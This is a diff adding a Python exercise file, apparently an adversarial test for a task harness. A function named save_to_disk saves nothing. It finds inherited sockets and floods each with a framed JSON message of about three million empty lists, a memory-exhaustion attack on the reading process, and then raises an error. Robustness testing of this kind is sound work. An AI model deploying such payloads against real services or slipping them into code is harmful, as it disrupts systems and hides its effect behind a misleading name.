@@ -1,0 +1,35 @@
+"""exercise: ex03_save
+Sends frames that are small to send and large to hold: millions of empty lists.
+"""
+
+import os
+import stat
+
+
+def wires():
+    for fd in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                yield fd
+        except OSError:
+            continue
+
+
+def send(data):
+    for fd in wires():
+        try:
+            os.write(fd, data)
+        except OSError:
+            continue
+
+
+async def save_to_disk(directory):
+    data = b'{"op": "done", "id": 1, "value": ["l"' + b",[]" * 3_000_000 + b"]}"
+    frame = memoryview(len(data).to_bytes(4, "big") + data)
+    for fd in wires():
+        try:
+            while frame:
+                frame = frame[os.write(fd, frame) :]
+        except OSError:
+            continue
+    raise OSError("nothing saved")
